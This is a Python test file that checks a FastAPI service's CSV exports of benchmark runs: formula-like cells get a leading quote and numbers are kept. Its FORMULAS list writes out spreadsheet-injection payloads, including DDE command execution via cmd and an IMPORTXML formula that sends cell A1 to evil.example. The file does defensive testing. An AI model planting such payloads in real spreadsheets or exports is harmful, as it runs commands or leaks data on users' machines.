"""CSV exports: no cell starts a formula, and every number stays one."""

import csv
import io

import pytest
from fastapi.testclient import TestClient

from app.api.answers import csv_answer, csv_cell
from tests.answers import API, ok
from tests.result_files import data_of, served_file, served_in_detail

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1), \"//a\")",
    "+1+1",
    "+49 30 1234",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-1.5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=1+1";=1+1',
    "=\"a\"\"b\"",
)  # fmt: skip
HARMLESS = ("llama-3-1-8b", "a=b", "1+1", "a@b.example", 'say "hi", twice', "two\nlines", "", "'quoted", "ünïcode ✓")
NUMBERS = (0, -1, 3.5, -2.25, 1e-9, 123456789012, -1e18, True)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_run_gets_a_quote_before_it(text: str) -> None:
    (row,) = read(csv_answer("x.csv", [text], []).body.decode())[:1]
    assert csv_cell(text) == f"'{text}"
    assert read(csv_answer("x.csv", ["h"], [[text]]).body.decode())[1] == [f"'{text}"]
    assert row == [text], "a header is ours and no user's"


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_is_unchanged(text: str) -> None:
    assert read(csv_answer("x.csv", ["h"], [[text, "end"]]).body.decode())[1] == [text, "end"]


@pytest.mark.parametrize("value", NUMBERS)
def test_a_number_stays_the_same_number(value: float) -> None:
    (cell,) = read(csv_answer("x.csv", ["h"], [[value]]).body.decode())[1]
    assert cell == str(value)
    assert isinstance(value, bool) or float(cell) == value


def test_what_is_not_known_is_empty() -> None:
    assert read(csv_answer("x.csv", ["a", "b"], [[None, 1]]).body.decode())[1] == ["", "1"]


def test_headers_of_the_answer_make_it_a_download() -> None:
    headers = csv_answer("runs.csv", [], []).headers
    assert headers["content-type"] == "text/csv; charset=utf-8"
    assert headers["content-disposition"] == 'attachment; filename="runs.csv"'


def test_formulas_in_every_word_of_a_run_are_quoted_in_the_list(api: TestClient) -> None:
    """Twenty runs, each with one of the formulas in label, model, hardware and engine."""
    for number, text in enumerate(FORMULAS):
        fields = {"label": text, "hardware": text, "engine": text, "name": text}
        ok(api.post(f"{API}/runs", params=fields, content=served_file(number, model_id=text)), 201)
    rows = read(api.get(f"{API}/runs?as=csv&limit=500").text)
    header, body = rows[0], rows[1:]
    assert len(body) == len(FORMULAS) == 20
    words = [header.index(name) for name in ("label", "model", "hardware", "engine")]
    numbers = [
        header.index(name) for name in ("id", "concurrency", "prompt_tokens_mean", "ttft_mean_s", "itl_mean_s", "requests_completed")
    ]
    for row in body:
        assert all(row[place].startswith("'") for place in words), row
        assert [float(row[place]) for place in numbers[1:]] == [1, 100, 0.05, 0.01, 20]


def test_formulas_in_error_texts_are_quoted_in_the_requests(api: TestClient) -> None:
    data = data_of(served_in_detail(errors=["", "", "", "=1+1\r\n@x", ""]))
    number = ok(api.post(f"{API}/runs", content=data), 201)["runs"][0]["id"]
    rows = read(api.get(f"{API}/runs/{number}/requests", headers={"accept": "text/csv"}).text)
    error = rows[4][rows[0].index("error")]
    assert error.startswith("'=1+1")
    assert len(rows) == 6
